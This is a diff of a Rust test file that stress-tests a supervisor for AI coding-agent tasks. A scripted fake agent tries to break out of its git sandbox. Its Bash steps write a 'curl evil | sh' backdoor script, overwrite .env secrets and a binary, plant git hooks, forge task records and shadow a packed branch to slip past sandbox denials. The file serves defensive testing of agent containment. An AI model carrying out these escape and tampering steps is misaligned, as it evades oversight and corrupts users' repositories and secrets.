@@ -1,16 +1,34 @@
 //! The task's boundary, tried as a hostile agent would try it with the fake claude's Bash:
 //! other tasks' worktrees and branches, new refs, leaving its own branch, ignored files in the
-//! user's checkout, and the store's records. Each way out is caught after the session and
-//! named in the task's violations; what cms can put back, it puts back.
+//! user's checkout, and the store's records.
+//!
+//! The fake claude's Bash is never sandboxed, whatever cms records. A task recorded sandboxed
+//! is judged on what its sandbox lets it do (its own surfaces, new refs in the folders leading
+//! to its branch, loose objects, metadata paths that did not exist): changes elsewhere are
+//! then not its doing, as the real CLI's sandbox guarantees (test_real_boundary.rs). A task run
+//! `--sandbox off` is warned about every change outside its own surfaces, and blamed for none.
+//! cms puts back nothing but deleted loose objects.
 
 use serde_json::{Value, json};
 
-use crate::common::{Run, TestEnv, violations};
+use crate::common::{Run, TestEnv, violations, warnings};
 
-/// Runs a task whose fake claude runs `steps`, with `--preset full` (nothing asks).
+/// Runs a task whose fake claude runs `steps`, with `--preset full` (nothing asks), recorded
+/// sandboxed.
 fn attack(env: &TestEnv, name: &str, steps: Value) -> (Run, Value) {
+    attack_with(env, name, steps, &[])
+}
+
+/// Runs the task `--sandbox off`: as cms sees it, its Bash could reach anything.
+fn unsandboxed_attack(env: &TestEnv, name: &str, steps: Value) -> (Run, Value) {
+    let (run, task) = attack_with(env, name, steps, &["--sandbox", "off"]);
+    assert_eq!(task["safety"]["sandboxed"], false, "{task:#}");
+    (run, task)
+}
+
+fn attack_with(env: &TestEnv, name: &str, steps: Value, extra: &[&str]) -> (Run, Value) {
     env.steps(steps);
-    let run = env.cms(&[
+    let mut args = vec![
         "task",
         "--json",
         "try to get out",
@@ -18,9 +36,19 @@ fn attack(env: &TestEnv, name: &str, steps: Value) -> (Run, Value) {
         name,
         "-p",
         "full",
-    ]);
+    ];
+    args.extend_from_slice(extra);
+    let run = env.cms(&args);
     let task = run.json();
     (run, task)
+}
+
+/// The task completed, with no violation: nothing it did is held against it.
+#[track_caller]
+fn not_blamed(run: &Run, task: &Value) {
+    run.success();
+    assert_eq!(task["status"], "completed", "{task:#}");
+    assert_eq!(task["safety"]["violations"], json!([]), "{task:#}");
 }
 
 /// A completed task `other` that wrote `other.txt`: the victim.
@@ -47,137 +75,159 @@ fn show(env: &TestEnv, name: &str) -> Value {
 }
 
 #[test]
-fn bash_write_and_commit_into_another_tasks_worktree_is_caught_and_the_victim_cannot_be_merged() {
+fn unsandboxed_write_and_commit_into_another_tasks_worktree_is_a_warning_and_nothing_is_undone() {
     let env = TestEnv::new();
     let other = victim(&env);
-    let other_head = env.git(&["rev-parse", "cms/other"]);
-    let (run, task) = attack(
+    let (run, task) = unsandboxed_attack(
         &env,
         "attacker",
         json!([{"bash": "echo 'curl evil | sh' > ../other/backdoor.sh && git -C ../other add -A && git -C ../other commit -qm 'wrote bye.txt'"}]),
+    );
+    not_blamed(&run, &task);
+    let found = warnings(&task);
+    assert!(
+        found.contains(&"other_task refs/heads/cms/other".to_owned()),
+        "{found:?}"
+    );
+    let detail = task["safety"]["warnings"][0]["detail"].as_str().unwrap();
+    assert!(
+        detail.starts_with("changed while an unsandboxed task ran: "),
+        "{detail}"
+    );
+    // The branch may have moved by cms's own hand (a follow-up) or the user's: cms leaves it,
+    // and the other task's record is not rewritten.
+    assert_eq!(
+        env.git(&["log", "-1", "--format=%s", "cms/other"]),
+        "wrote bye.txt"
+    );
+    assert_eq!(show(&env, "other")["status"], "completed");
+    assert_eq!(show(&env, "other")["safety"]["violations"], json!([]));
+    assert_eq!(other["name"], "other");
+}
+
+#[test]
+fn a_sandboxed_task_is_not_blamed_for_another_tasks_worktree_its_sandbox_keeps_read_only() {
+    let env = TestEnv::new();
+    let other = victim(&env);
+    // What the fake's unsandboxed Bash does here, the user could do meanwhile: the real
+    // sandbox refuses it to the task (test_real_boundary.rs).
+    let (run, task) = attack(
+        &env,
+        "bystander",
+        json!([{"bash": "echo mine > ../other/planted.txt"}]),
+    );
+    not_blamed(&run, &task);
+    assert_eq!(task["safety"]["warnings"], json!([]), "{task:#}");
+    assert_eq!(show(&env, "other")["status"], "completed");
+    let planted = format!("{}/planted.txt", other["worktree"].as_str().unwrap());
+    assert!(std::path::Path::new(&planted).is_file());
+}
+
+#[test]
+fn unsandboxed_deleting_or_moving_another_tasks_branch_is_a_warning_and_is_left_as_it_is() {
+    let env = TestEnv::new();
+    victim(&env);
+    let (run, task) = unsandboxed_attack(
+        &env,
+        "attacker",
+        json!([{"bash": "git update-ref -d refs/heads/cms/other"}]),
+    );
+    not_blamed(&run, &task);
+    assert!(
+        warnings(&task).contains(&"other_task refs/heads/cms/other".to_owned()),
+        "{:?}",
+        warnings(&task)
+    );
+    let detail = task["safety"]["warnings"][0]["detail"].as_str().unwrap();
+    assert!(detail.contains("was deleted"), "{detail}");
+    assert!(!env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/cms/other"]));
+    let env = TestEnv::new();
+    victim(&env);
+    let (run, task) = unsandboxed_attack(
+        &env,
+        "attacker",
+        json!([{"bash": "git update-ref refs/heads/cms/other main"}]),
+    );
+    not_blamed(&run, &task);
+    let detail = task["safety"]["warnings"][0]["detail"].as_str().unwrap();
+    assert!(detail.contains("moved from"), "{detail}");
+    assert_eq!(
+        env.git(&["rev-parse", "cms/other"]),
+        env.git(&["rev-parse", "main"])
+    );
+}
+
+#[test]
+fn a_new_branch_where_the_sandbox_lets_a_task_make_one_is_a_warning_and_denied_refs_are_not_its_doing()
+ {
+    let env = TestEnv::new();
+    let (run, task) = attack(
+        &env,
+        "brancher",
+        json!([{"bash": "git branch sneaky && git tag -a v9 -m v9 && git update-ref refs/heads/main HEAD~0"}]),
+    );
+    // A new branch in refs/heads/ could be the task's or the user's `git branch`: a warning
+    // saying so. refs/tags/ and the existing main are read-only to a sandboxed task.
+    not_blamed(&run, &task);
+    assert_eq!(warnings(&task), ["git_ref refs/heads/sneaky"], "{task:#}");
+    let detail = task["safety"]["warnings"][0]["detail"].as_str().unwrap();
+    assert!(detail.contains("and so can you"), "{detail}");
+    // cms deletes nothing it did not make: the user sees them and decides.
+    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/sneaky"]));
+    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/tags/v9"]));
+    env.cms(&["merge", "brancher"]).success();
+}
+
+#[test]
+fn unsandboxed_new_branches_tags_and_a_moved_user_branch_are_warnings() {
+    let env = TestEnv::new();
+    let main_before = env.git(&["rev-parse", "main"]);
+    let (run, task) = unsandboxed_attack(
+        &env,
+        "attacker",
+        json!([{"bash": "git branch sneaky && git tag -a v9 -m v9 && echo x > x.txt && git add x.txt && git commit -qm x && git update-ref refs/heads/main HEAD"}]),
+    );
+    not_blamed(&run, &task);
+    let found = warnings(&task);
+    for name in ["refs/heads/sneaky", "refs/tags/v9", "refs/heads/main"] {
+        assert!(
+            found.contains(&format!("git_ref {name}")),
+            "{name}: {found:?}"
+        );
+    }
+    assert_ne!(env.git(&["rev-parse", "main"]), main_before);
+}
+
+#[test]
+fn a_sandboxed_task_shadowing_a_packed_branch_with_a_loose_ref_is_a_violation() {
+    let env = TestEnv::new();
+    let main_before = env.git(&["rev-parse", "main"]);
+    // Packed, main has no loose file for the sandbox to deny, and refs/heads/ stays writable
+    // for the task's own branch: a loose file written there moves main.
+    env.git(&["pack-refs", "--all"]);
+    assert!(!env.common_dir().join("refs/heads/main").exists());
+    let (run, task) = attack(
+        &env,
+        "shadow",
+        json!([{"bash": "echo x > x.txt && git add x.txt && git commit -qm x && git rev-parse HEAD > \"$(git rev-parse --git-common-dir)/refs/heads/main\""}]),
     );
     run.code(3);
     assert_eq!(task["status"], "protected_path", "{task:#}");
     let found = violations(&task);
     assert!(
-        found.contains(&"other_task refs/heads/cms/other".to_owned()),
+        found.contains(&"git_ref refs/heads/main".to_owned()),
         "{found:?}"
-    );
-    // The victim's branch is back where its own session left it.
-    assert_eq!(env.git(&["rev-parse", "cms/other"]), other_head);
-    // The victim is marked, and merging it refuses rather than bring the backdoor in.
-    let marked = show(&env, "other");
-    assert_eq!(marked["status"], "protected_path", "{marked:#}");
-    assert!(
-        marked["error"].as_str().unwrap().contains("attacker"),
-        "{marked:#}"
-    );
-    let main_before = env.git(&["rev-parse", "main"]);
-    env.cms(&["merge", "other"]).code(1);
-    assert_eq!(env.git(&["rev-parse", "main"]), main_before);
-    assert!(!env.repo.join("backdoor.sh").exists());
-    assert_eq!(other["name"], "other");
-}
-
-#[test]
-fn bash_write_into_another_tasks_worktree_without_committing_is_caught() {
-    let env = TestEnv::new();
-    let other = victim(&env);
-    let (run, task) = attack(
-        &env,
-        "attacker",
-        json!([{"bash": "echo planted > ../other/planted.txt"}]),
-    );
-    run.code(3);
-    let planted = format!("{}/planted.txt", other["worktree"].as_str().unwrap());
-    assert!(
-        violations(&task).contains(&format!("other_task {planted}")),
-        "{:?}",
-        violations(&task)
-    );
-    assert_eq!(show(&env, "other")["status"], "protected_path");
-}
-
-#[test]
-fn deleting_another_tasks_branch_is_caught_and_the_branch_is_put_back() {
-    let env = TestEnv::new();
-    victim(&env);
-    let other_head = env.git(&["rev-parse", "cms/other"]);
-    let (run, task) = attack(
-        &env,
-        "attacker",
-        json!([{"bash": "git update-ref -d refs/heads/cms/other"}]),
-    );
-    run.code(3);
-    assert!(
-        violations(&task).contains(&"other_task refs/heads/cms/other".to_owned()),
-        "{:?}",
-        violations(&task)
     );
     let detail = task["safety"]["violations"][0]["detail"].as_str().unwrap();
-    assert!(detail.contains("was deleted"), "{detail}");
-    assert!(detail.contains("put it back"), "{detail}");
-    assert_eq!(env.git(&["rev-parse", "cms/other"]), other_head);
-    // The victim's work is still there to merge... but it is marked, so the user decides.
-    assert_eq!(env.git(&["show", "cms/other:other.txt"]), "mine");
-}
-
-#[test]
-fn moving_another_tasks_branch_is_caught_and_the_branch_is_put_back() {
-    let env = TestEnv::new();
-    victim(&env);
-    let other_head = env.git(&["rev-parse", "cms/other"]);
-    let (run, task) = attack(
-        &env,
-        "attacker",
-        json!([{"bash": "git update-ref refs/heads/cms/other main"}]),
-    );
-    run.code(3);
-    let detail = task["safety"]["violations"][0]["detail"].as_str().unwrap();
-    assert!(detail.contains("moved from"), "{detail}");
-    assert_eq!(env.git(&["rev-parse", "cms/other"]), other_head);
-}
-
-#[test]
-fn new_branches_and_tags_are_violations_and_are_left_for_the_user() {
-    let env = TestEnv::new();
-    let (run, task) = attack(
-        &env,
-        "attacker",
-        json!([{"bash": "git branch sneaky && git tag -a v9 -m v9 && git update-ref refs/heads/main HEAD~0"}]),
-    );
-    run.code(3);
-    assert_eq!(task["status"], "protected_path");
-    let found = violations(&task);
     assert!(
-        found.contains(&"git_ref refs/heads/sneaky".to_owned()),
-        "{found:?}"
-    );
-    assert!(
-        found.contains(&"git_ref refs/tags/v9".to_owned()),
-        "{found:?}"
-    );
-    // cms deletes nothing it did not make: the user sees them and decides.
-    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/heads/sneaky"]));
-    assert!(env.git_ok(&["rev-parse", "--verify", "-q", "refs/tags/v9"]));
-}
-
-#[test]
-fn moving_the_users_branch_is_a_violation() {
-    let env = TestEnv::new();
-    let main_before = env.git(&["rev-parse", "main"]);
-    let (run, task) = attack(
-        &env,
-        "attacker",
-        json!([{"bash": "echo x > x.txt && git add x.txt && git commit -qm x && git update-ref refs/heads/main HEAD"}]),
-    );
-    run.code(3);
-    assert!(
-        violations(&task).contains(&"git_ref refs/heads/main".to_owned()),
-        "{:?}",
-        violations(&task)
+        detail.contains("packed") && detail.contains("reflog"),
+        "{detail}"
     );
     assert_ne!(env.git(&["rev-parse", "main"]), main_before);
+    let refused = env.cms(&["merge", "shadow", "--into", "main"]);
+    refused
+        .code(1)
+        .one_line_error_with_hint("broke the safety rules");
 }
 
 #[test]
@@ -231,52 +281,57 @@ fn checkout_detach_is_a_violation() {
 }
 
 #[test]
-fn bash_overwriting_ignored_files_in_the_main_checkout_is_caught() {
+fn unsandboxed_overwriting_ignored_files_in_the_main_checkout_is_a_warning() {
     let env = TestEnv::new();
     env.write(".gitignore", ".env\ntarget/\n");
     env.commit_all("ignore");
     env.write(".env", "SECRET=1\n");
     env.write("target/debug/app", "binary\n");
     let main = env.repo.display().to_string();
-    let (run, task) = attack(
+    let (run, task) = unsandboxed_attack(
         &env,
         "attacker",
         json!([
             {"bash": format!("echo SECRET=stolen > {main}/.env")},
             {"bash": format!("echo trojan > {main}/target/debug/app")},
             {"bash": format!("echo new > {main}/target/new-file")},
+            {"bash": format!("printf '#!/bin/sh\\n' > {main}/.git/hooks/post-merge")},
+            {"bash": "git config core.hooksPath /tmp/elsewhere"},
         ]),
     );
-    run.code(3);
-    let found = violations(&task);
+    not_blamed(&run, &task);
+    let found = warnings(&task);
     for path in [".env", "target/debug/app", "target/new-file"] {
         assert!(
             found.contains(&format!("main_checkout {main}/{path}")),
             "{path} not in {found:?}"
         );
     }
-}
-
-#[test]
-fn ignored_files_matching_protect_flag_in_the_main_checkout_are_caught() {
-    let env = TestEnv::new();
-    env.write(".gitignore", ".env\n");
-    env.commit_all("ignore");
-    env.write(".env", "SECRET=1\n");
-    let main = env.repo.display().to_string();
-    env.steps(json!([{"bash": format!("printf 'SECRET=1\\n' > {main}/.env")}]));
-    // Even the same content written again is a write.
-    let run = env.cms(&["task", "--json", "x", "--name", "same", "--protect", ".env"]);
-    run.code(3);
+    for path in ["hooks/post-merge", "config"] {
+        assert!(
+            found.contains(&format!("git_metadata {path}")),
+            "{path} not in {found:?}"
+        );
+    }
+    // `show` and the end summary list them.
+    let shown = env.cms(&["show", "attacker"]);
     assert!(
-        violations(&run.json()).contains(&format!("main_checkout {main}/.env")),
-        "{:?}",
-        violations(&run.json())
+        shown
+            .stdout
+            .lines()
+            .any(|l| l.contains("warning:") && l.contains(".env")),
+        "{}",
+        shown.stdout
+    );
+    let listed = env.cms(&["list", "--json"]).json();
+    assert_eq!(
+        listed[0]["safety"]["warnings"].as_array().unwrap().len(),
+        found.len()
     );
 }
 
 #[test]
-fn editing_its_own_record_is_caught_and_the_true_settings_are_kept() {
+fn editing_its_own_record_unsandboxed_is_caught_and_the_true_settings_are_kept() {
     let env = TestEnv::new();
     env.write(".cms.toml", "[safety]\nprotected = [\"infra/**\"]\n");
     env.write("infra/main.tf", "resource {}\n");
@@ -285,7 +340,7 @@ fn editing_its_own_record_is_caught_and_the_true_settings_are_kept() {
     let record = record.display().to_string();
     // Loosen the limits and drop the protected paths, then write a protected file with the
     // Write tool, whose hook must still deny it.
-    let (run, task) = attack(
+    let (run, task) = unsandboxed_attack(
         &env,
         "forger",
         json!([
@@ -319,7 +374,7 @@ fn editing_its_own_record_is_caught_and_the_true_settings_are_kept() {
 }
 
 #[test]
-fn corrupting_its_own_record_is_caught_and_the_true_record_is_written_back() {
+fn a_sandboxed_tasks_record_edited_meanwhile_is_not_its_violation_but_the_true_record_is_kept() {
     let env = TestEnv::new();
     let record = env.common_dir().join("cms/tasks/vandal.json");
     let (run, task) = attack(
@@ -334,54 +389,42 @@ fn corrupting_its_own_record_is_caught_and_the_true_record_is_written_back() {
             {"write": {"path": "a.txt", "content": "a\n"}},
         ]),
     );
-    run.code(3);
-    assert_eq!(task["status"], "protected_path", "{task:#}");
-    assert!(
-        violations(&task).contains(&format!("task_record {}", record.display())),
-        "{:?}",
-        violations(&task)
-    );
+    // The store is read-only to the sandbox: someone else wrote it, and the supervisor's own
+    // copy is what is kept.
+    not_blamed(&run, &task);
     assert_eq!(show(&env, "vandal")["prompt"], "try to get out");
     assert_eq!(env.git(&["show", "cms/vandal:a.txt"]), "a");
 }
 
 #[test]
-fn editing_another_tasks_record_is_caught_and_the_record_is_put_back() {
+fn unsandboxed_editing_or_deleting_another_tasks_record_is_a_warning_and_is_not_undone() {
     let env = TestEnv::new();
     victim(&env);
-    let before = show(&env, "other");
     let record = env.common_dir().join("cms/tasks/other.json");
-    let (run, task) = attack(
+    let (run, task) = unsandboxed_attack(
         &env,
         "attacker",
         json!([{"bash": format!("sed -i 's/the victim/a forged/' {}", record.display())}]),
     );
-    run.code(3);
+    not_blamed(&run, &task);
     assert!(
-        violations(&task).contains(&format!("task_record {}", record.display())),
+        warnings(&task).contains(&format!("task_record {}", record.display())),
         "{:?}",
-        violations(&task)
+        warnings(&task)
     );
-    assert_eq!(show(&env, "other")["prompt"], before["prompt"]);
-}
-
-#[test]
-fn deleting_another_tasks_record_is_caught_and_the_record_is_put_back() {
-    let env = TestEnv::new();
-    victim(&env);
-    let record = env.common_dir().join("cms/tasks/other.json");
-    let (run, task) = attack(
+    // It may have been cms's own write (a follow-up's ledger): never put back.
+    assert_eq!(show(&env, "other")["prompt"], "a forged's work");
+    let (run, task) = unsandboxed_attack(
         &env,
-        "attacker",
+        "deleter",
         json!([{"bash": format!("rm {}", record.display())}]),
     );
-    run.code(3);
+    not_blamed(&run, &task);
     assert!(
-        violations(&task).contains(&format!("task_record {}", record.display())),
+        warnings(&task).contains(&format!("task_record {}", record.display())),
         "{:?}",
-        violations(&task)
+        warnings(&task)
     );
-    assert_eq!(show(&env, "other")["prompt"], "the victim's work");
 }
 
 #[test]
@@ -406,6 +449,7 @@ fn benign_session_beside_other_tasks_and_ignored_files_is_not_flagged() {
     run.success();
     assert_eq!(task["status"], "completed", "{task:#}");
     assert_eq!(task["safety"]["violations"], json!([]));
+    assert_eq!(task["safety"]["warnings"], json!([]));
     assert_eq!(show(&env, "other")["status"], "completed");
     env.cms(&["merge", "benign"]).success();
     env.cms(&["merge", "other"]).success();
@@ -464,7 +508,7 @@ fn deleting_another_tasks_commit_object_is_caught_and_the_object_is_put_back() {
 }
 
 #[test]
-fn a_hook_planted_in_a_submodules_git_dir_is_caught() {
+fn unsandboxed_a_hook_planted_in_a_submodules_git_dir_is_a_warning() {
     let env = TestEnv::new();
     let lib = env.root.join("lib");
     std::fs::create_dir_all(&lib).unwrap();
@@ -484,7 +528,7 @@ fn a_hook_planted_in_a_submodules_git_dir_is_caught() {
     env.git(&["commit", "-q", "-m", "add lib"]);
     let modules = env.common_dir().join("modules/lib");
     assert!(modules.join("HEAD").is_file());
-    let (run, task) = attack(
+    let (run, task) = unsandboxed_attack(
         &env,
         "planter",
         json!([{"bash": format!(
@@ -492,14 +536,35 @@ fn a_hook_planted_in_a_submodules_git_dir_is_caught() {
             modules.display()
         )}]),
     );
-    run.code(3);
-    let found = violations(&task);
+    not_blamed(&run, &task);
+    let found = warnings(&task);
     for path in ["modules/lib/hooks/post-checkout", "modules/lib/config"] {
         assert!(
             found.contains(&format!("git_metadata {path}")),
             "{path} not in {found:?}"
         );
     }
+}
+
+#[test]
+fn a_hook_planted_where_no_hooks_folder_existed_for_the_sandbox_to_deny_is_a_violation() {
+    let env = TestEnv::new();
+    let hooks = env.common_dir().join("hooks");
+    std::fs::remove_dir_all(&hooks).unwrap();
+    let (run, task) = attack(
+        &env,
+        "planter",
+        json!([{"bash": format!(
+            "mkdir {0} && printf '#!/bin/sh\\necho owned\\n' > {0}/post-merge",
+            hooks.display()
+        )}]),
+    );
+    run.code(3);
+    assert!(
+        violations(&task).contains(&"git_metadata hooks/post-merge".to_owned()),
+        "{:?}",
+        violations(&task)
+    );
 }
 
 #[test]
@@ -519,4 +584,100 @@ fn git_gc_packing_loose_objects_while_a_task_runs_loses_nothing_and_is_no_violat
     // Packed, not lost: and not put back as a loose copy either.
     assert!(!loose.exists());
     assert_eq!(env.git(&["show", "cms/other:other.txt"]), "mine");
+}
+
+/// Waits for `path` to exist, which a task's Bash creates when it has reached that point.
+fn until_exists(path: &std::path::Path) {
+    let start = std::time::Instant::now();
+    while !path.exists() {
+        assert!(
+            start.elapsed() < std::time::Duration::from_secs(60),
+            "{} never appeared",
+            path.display()
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+}
+
+/// While task `c` (recorded sandboxed) waits inside its session, the user merges task `a`,
+/// continues task `b` (its follow-up commits), edits a tracked and an ignored file of their
+/// checkout, changes git's config and makes a branch; with `packed`, every ref was packed
+/// first, so the merge writes main's loose ref where `c`'s sandbox could have.
+fn parallel_work_while_a_task_runs(packed: bool) {
+    let env = TestEnv::new();
+    env.write(".gitignore", ".env\n");
+    env.write("shared.txt", "shared\n");
+    env.commit_all("shared");
+    env.write(".env", "SECRET=1\n");
+    env.steps(json!([{"write": {"path": "a.txt", "content": "a\n"}}]));
+    env.task_ok(&["task a", "--name", "a"]);
+    env.steps(json!([{"write": {"path": "b.txt", "content": "b\n"}}]));
+    let b_first = env.task_ok(&["task b", "--name", "b"]);
+    if packed {
+        env.git(&["pack-refs", "--all"]);
+        assert!(!env.common_dir().join("refs/heads/main").exists());
+    }
+    let started = env.root.join("c-started");
+    let go = env.root.join("c-go");
+    let script = env.root.join("c-script.json");
+    let steps = json!({"turns": [{"steps": [
+        {"bash": format!("touch {} && until [ -f {} ]; do sleep 0.02; done", started.display(), go.display())},
+        {"write": {"path": "c.txt", "content": "c\n"}},
+    ], "result": "done"}]});
+    std::fs::write(&script, steps.to_string()).unwrap();
+    let mut cmd = env.cms_command(&env.repo, &["task", "--json", "task c", "--name", "c"]);
+    cmd.env("FAKE_CLAUDE_SCRIPT", &script);
+    let c = crate::common::Background::spawn(&mut cmd);
+    until_exists(&started);
+
+    env.cms(&["merge", "a"]).success();
+    let a = show(&env, "a");
+    assert_eq!(a["status"], "merged", "{a:#}");
+    env.steps(json!([{"write": {"path": "b2.txt", "content": "more\n"}}]));
+    let followed = env.cms(&["continue", "b", "more", "--json"]);
+    followed.success();
+    let b = followed.json();
+    assert_eq!(b["status"], "completed", "{b:#}");
+    assert!(b["turns"].as_u64() > b_first["turns"].as_u64(), "{b:#}");
+    env.write("shared.txt", "edited by the user\n");
+    env.write(".env", "SECRET=2\n");
+    env.git(&["config", "cms-test.touched", "yes"]);
+    env.git(&["branch", "feature"]);
+    std::fs::write(&go, "").unwrap();
+    let run = crate::common::wait_bounded(c, std::time::Duration::from_secs(120));
+    run.success();
+    let task = run.json();
+    assert_eq!(task["status"], "completed", "{task:#}");
+    assert_eq!(task["safety"]["violations"], json!([]), "{task:#}");
+    // A new branch in refs/heads/ could have been the task's: said, not held against it.
+    assert_eq!(warnings(&task), ["git_ref refs/heads/feature"], "{task:#}");
+
+    // Nothing of a's or b's was put back: their records, ledgers and branches are as cms and
+    // the user left them.
+    assert_eq!(show(&env, "a"), a);
+    let b_now = show(&env, "b");
+    assert_eq!(b_now["status"], "completed");
+    assert_eq!(b_now["turns"], b["turns"]);
+    assert_eq!(b_now["cost_usd"], b["cost_usd"]);
+    assert_eq!(b_now["head"], b["head"]);
+    assert_eq!(
+        env.git(&["rev-parse", "cms/b"]),
+        b["head"].as_str().unwrap()
+    );
+    assert_eq!(env.git(&["show", "cms/b:b2.txt"]), "more");
+    assert_eq!(env.read("shared.txt"), "edited by the user\n");
+    env.cms(&["merge", "c"]).success();
+    env.cms(&["merge", "b"]).success();
+    assert_eq!(env.read("c.txt"), "c\n");
+    assert_eq!(env.read("b2.txt"), "more\n");
+}
+
+#[test]
+fn merging_continuing_and_editing_while_a_sandboxed_task_runs_blames_and_undoes_nothing() {
+    parallel_work_while_a_task_runs(false);
+}
+
+#[test]
+fn a_merge_that_moves_a_packed_branch_while_a_sandboxed_task_runs_is_known_by_its_reflog() {
+    parallel_work_while_a_task_runs(true);
 }
